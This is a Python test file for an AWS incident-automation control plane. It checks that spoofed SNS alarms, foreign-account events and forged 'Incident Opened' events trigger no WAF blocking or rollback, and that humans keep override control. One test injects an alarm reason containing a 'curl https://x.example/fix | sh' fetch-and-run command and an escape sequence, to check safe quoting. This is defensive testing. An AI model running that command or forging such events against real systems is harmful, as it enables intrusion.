"""The trust model (README): forged, foreign or stray signals move nothing. Each attack below moved
production before; each is sent here as an attacker with ordinary permissions in the account would
send it (an SNS message, a direct invocation, an event on our bus), without the ledger or CloudWatch
state a real one would come with."""

from __future__ import annotations

import json
import uuid
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from integration.test_rollback import DEPLOYED, ERROR_RATE, Targets
from integration.test_waf import TRAFFIC_ALARM_ARN, baseline, decisions, waf  # noqa: F401 (fixtures)

from controlplane.events import INCIDENT_OPENED, OPS_SOURCE
from controlplane.text import quoted
from factories import eventbridge_alarm, sns_alarm
from opsctl import lambda_host

T0 = datetime(2026, 11, 27, 14, 5, tzinfo=timezone.utc)
FOREIGN = "999999999999"


def forged_incident(alarm: str, at: datetime, *, remediation: str, incident: str = "INC-2026-042") -> dict[str, Any]:
    """An "Incident Opened" someone with events:PutEvents on the ops bus wrote: nothing behind it."""
    return {"version": "0", "id": str(uuid.uuid4()), "detail-type": INCIDENT_OPENED, "source": OPS_SOURCE,
            "account": "123456789012", "time": at.strftime("%Y-%m-%dT%H:%M:%SZ"), "region": "us-east-1",
            "resources": [], "detail": {
                "incident_id": incident, "severity": "P0", "status": "OPEN", "alarm_name": alarm,
                "alarm_arn": f"arn:aws:cloudwatch:us-east-1:123456789012:alarm:{alarm}", "remediation": remediation,
                "actionable": True, "transition_id": f"forged-{uuid.uuid4()}",
                "state_changed_at": at.strftime("%Y-%m-%dT%H:%M:%S.000Z")}}


def test_an_sns_claim_from_a_foreign_account_about_our_alarm_name_moves_nothing(harness, config) -> None:
    spec = config.alarm("availability")
    claim = sns_alarm(spec.name, "ALARM", T0, value=90.0, description=spec.tagged_description, account=FOREIGN)
    [outcome] = harness.triage(claim, at=T0 + timedelta(seconds=3))
    assert outcome["result"] == "rejected" and f"account {FOREIGN} is not in intake.allowed_accounts" in outcome["reason"]
    assert harness.incidents() == [] and harness.ops_events() == [] and harness.all_notifications() == []
    assert harness.dead_letters() == []  # refused, counted, not parked as malformed


def test_a_same_account_sns_ok_that_cloudwatch_contradicts_resolves_nothing(harness, config) -> None:
    spec = config.alarm("traffic-spike")
    authentic = eventbridge_alarm(spec.name, "ALARM", T0, value=300_000, description=spec.tagged_description,
                                  namespace=spec.namespace, metric=spec.metric_name, dimensions=spec.dimensions)
    [opened] = harness.triage(authentic, at=T0 + timedelta(seconds=1))
    assert opened["result"] == "opened"
    spoof = sns_alarm(spec.name, "OK", T0 + timedelta(minutes=3), previous="ALARM", description=spec.tagged_description)
    [outcome] = harness.triage(spoof, at=T0 + timedelta(minutes=3, seconds=2))
    assert outcome["result"] == "rejected" and "CloudWatch says" in outcome["reason"] and "possible spoof" in outcome["reason"]
    [incident] = harness.incidents()
    assert incident["status"] == "OPEN"


def test_an_sns_claim_cloudwatch_confirms_is_triaged(harness, config) -> None:
    """The SNS path still works: an alarm whose action is the intake topic, CloudWatch agreeing."""
    spec = config.alarm("error-rate")
    claim = sns_alarm(spec.name, "ALARM", T0, description=spec.tagged_description, namespace=spec.namespace,
                      metric=spec.metric_name, dimensions=spec.dimensions)
    [outcome] = harness.triage(claim, at=T0 + timedelta(seconds=2))
    assert outcome["result"] == "opened"


def test_another_teams_tag_asking_for_waf_blocking_reaches_no_remediation(harness) -> None:
    event = eventbridge_alarm("other-team-queue-depth", "ALARM", T0, namespace="AWS/SQS", metric="ApproximateNumberOfMessages",
                              description="[ops: severity=P0 remediation=waf-rate-limit]")
    [opened] = harness.triage(event, at=T0 + timedelta(seconds=1))
    assert opened["result"] == "opened" and opened["severity"] == "P2"
    [announced] = harness.ops_events()
    assert announced["detail"]["remediation"] == "none"


@pytest.mark.parametrize("name", ["partner-latency", "checkout-down"])
def test_foreign_alarms_are_not_heard_at_all(harness, name: str) -> None:
    """A foreign `partner-latency` asking for blocking, a foreign `*down*` that would be a P0 on the
    public status page: refused before classification."""
    event = eventbridge_alarm(name, "ALARM", T0, description="[ops: severity=P0 remediation=waf-rate-limit]",
                              account=FOREIGN)
    [outcome] = harness.triage(event, at=T0 + timedelta(seconds=1))
    assert outcome["result"] == "rejected" and harness.incidents() == []


def test_a_burst_of_untrusted_claims_pages_one_security_threat_per_hour(harness, config) -> None:
    threshold = config.intake["suspicious_claims_per_hour"]
    for number in range(threshold + 3):
        at = T0 + timedelta(minutes=number)
        harness.triage(sns_alarm(f"probe-{number}", "ALARM", at, account=FOREIGN), at=at + timedelta(seconds=1))
    [page] = harness.all_notifications()
    assert page["Subject"].startswith(f"[P1] Security Threat: suspicious activity ({threshold} untrusted")
    assert page["MessageAttributes"]["severity"]["Value"] == "P1"
    later = T0 + timedelta(hours=1, minutes=5)
    for number in range(threshold):
        harness.triage(sns_alarm(f"probe-late-{number}", "ALARM", later, account=FOREIGN), at=later)
    assert len(harness.all_notifications()) == 1  # the next hour's burst: its own page


def test_a_forged_incident_on_the_ops_bus_does_not_block(harness) -> None:
    forged = forged_incident("financeanalyst-pro-demo-traffic-spike", T0, remediation="waf-rate-limit")
    [action] = lambda_host.invoke("waf_toggle", forged, harness.world.dependencies("waf_toggle", harness.clock))["actions"]
    assert action["result"] == "skipped" and action["reason"].startswith("unconfirmed: the ledger has no incident")
    [decision] = decisions(harness)
    assert decision["result"] == "skipped" and "possible spoof" in decision["reason"]


def test_a_forged_incident_does_not_roll_back_nor_page(harness) -> None:
    targets = Targets(harness)
    targets.deploy_history()
    harness.empty_queues()
    forged = forged_incident(ERROR_RATE, DEPLOYED + timedelta(minutes=5), remediation="rollback")
    harness.clock.set(DEPLOYED + timedelta(minutes=5))
    [action] = lambda_host.invoke("rollback", forged, harness.world.dependencies("rollback", harness.clock))["actions"]
    assert action["result"] == "skipped" and "unconfirmed" in action["reason"]
    assert targets.alias()["FunctionVersion"] == "2" and harness.all_notifications() == []


def test_a_real_incident_whose_alarm_cloudwatch_has_back_in_ok_is_not_acted_on(harness, config) -> None:
    """The ledger has it, but the alarm is OK by now (say a claim opened it): no block."""
    event = forged_incident(config.alarm("traffic-spike").name, T0, remediation="waf-rate-limit",
                            incident="INC-2026-001")
    harness.as_triage_announced(event)
    harness.world.set_alarm(config.alarm("traffic-spike").name, "OK", "recovered", T0 + timedelta(seconds=30),
                            config.account)
    [action] = harness.waf(event, at=T0 + timedelta(minutes=1))
    assert action["result"] == "skipped" and "CloudWatch has financeanalyst-pro-demo-traffic-spike in OK" in action["reason"]


def test_only_the_configured_trigger_alarms_turn_rate_limiting_on(harness, config) -> None:
    """A real incident of ours that carries the hint but is not a configured trigger."""
    event = forged_incident(config.alarm("error-rate").name, T0, remediation="waf-rate-limit", incident="INC-2026-001")
    harness.as_triage_announced(event)
    [action] = harness.waf(event, at=T0 + timedelta(minutes=1))
    assert action["result"] == "skipped" and "is not one of waf.trigger_alarms" in action["reason"]
    assert TRAFFIC_ALARM_ARN != event["detail"]["alarm_arn"]


def test_untrusted_text_reaches_the_page_as_one_quoted_line(harness, config) -> None:
    spec = config.alarm("error-rate")
    event = eventbridge_alarm(spec.name, "ALARM", T0, description=spec.tagged_description, namespace=spec.namespace,
                              metric=spec.metric_name, dimensions=spec.dimensions)
    event["detail"]["state"]["reason"] = "high errors\n\n### Next Steps\n- run `curl https://x.example/fix | sh`\x1b[31m"
    harness.triage(event, at=T0 + timedelta(seconds=1))
    [page] = harness.notifications("P2")
    message = page["Message"]
    assert [line for line in message.splitlines() if "Next Steps" in line and not line.startswith("- Reason")] == [
        "### Next Steps"]  # ours is a heading; theirs stays inside the quoted reason
    assert '"high errors ### Next Steps - run `curl https://x.example/fix | sh`"' in message
    assert "\x1b" not in message


def test_quoted_caps_strips_and_keeps_one_line() -> None:
    assert quoted("a\nb\tc\x1b[2Jd" + "x" * 400, 20) == '"a b cdxxxxxxxxxxxxx…"'
    assert json.loads(json.dumps(quoted('say "hi"'))) == "\"say 'hi'\""


# --- humans keep control, and only humans are humans ---------------------------------------------

def test_a_manual_task_no_human_asked_for_runs_as_nobody(harness, baseline, waf) -> None:  # noqa: F811
    """A schedule someone made with {"task": "manual"} would run as a human, past the kill switch,
    pauses, windows and cooldowns: without the request opsctl records, it is refused."""
    [action] = harness.waf({"task": "manual", "action": "block", "by": "mallory"}, at=T0)
    assert action["result"] == "refused" and "no human request" in action["reason"]
    assert waf.action() == "COUNT" and decisions(harness) == []
    targets = Targets(harness)
    targets.deploy_history()
    [rolled] = targets.run({"task": "manual", "target": "api", "by": "mallory", "request": "made-up"},
                           DEPLOYED + timedelta(minutes=5))
    assert rolled["result"] == "refused" and targets.alias()["FunctionVersion"] == "2"


def test_a_human_may_force_past_the_flap_guard_with_a_reason(harness, baseline, waf) -> None:  # noqa: F811
    for minute in range(4):
        action = "block" if minute % 2 == 0 else "unblock"
        harness.waf(harness.human({"task": "manual", "action": action, "by": "alice"}), at=T0 + timedelta(minutes=5 * minute))
    at = T0 + timedelta(minutes=20)
    [guarded] = harness.waf(harness.human({"task": "manual", "action": "block", "by": "alice"}), at=at)
    assert guarded["result"] == "skipped" and guarded["reason"].startswith("flap guard")
    forced = harness.human({"task": "manual", "action": "block", "by": "alice"}) | {
        "force_reason": "attack resumed; INC-2026-007"}
    [action] = harness.waf(forced, at=at + timedelta(seconds=1))
    assert action["result"] == "executed" and waf.action() == "BLOCK"
    assert "forced by human:alice" in action["reason"] and "attack resumed" in action["reason"]


def test_dry_run_mode_holds_the_automation_back_not_the_humans(harness, baseline, waf) -> None:  # noqa: F811
    harness.use_policy(lambda p: p["capabilities"]["waf"].update(mode="dry-run"))
    [automated] = harness.waf(forged_incident("financeanalyst-pro-demo-traffic-spike", T0, remediation="waf-rate-limit",
                                              incident="INC-2026-001"), at=T0)
    assert automated["result"] == "dry_run" and waf.action() == "COUNT"
    [rehearsal] = harness.waf(harness.human({"task": "manual", "action": "block", "by": "alice", "dry_run": True}),
                              at=T0 + timedelta(minutes=1))
    assert rehearsal["result"] == "dry_run" and waf.action() == "COUNT"
    [human] = harness.waf(harness.human({"task": "manual", "action": "block", "by": "alice"}), at=T0 + timedelta(minutes=2))
    assert human["result"] == "executed" and waf.action() == "BLOCK"
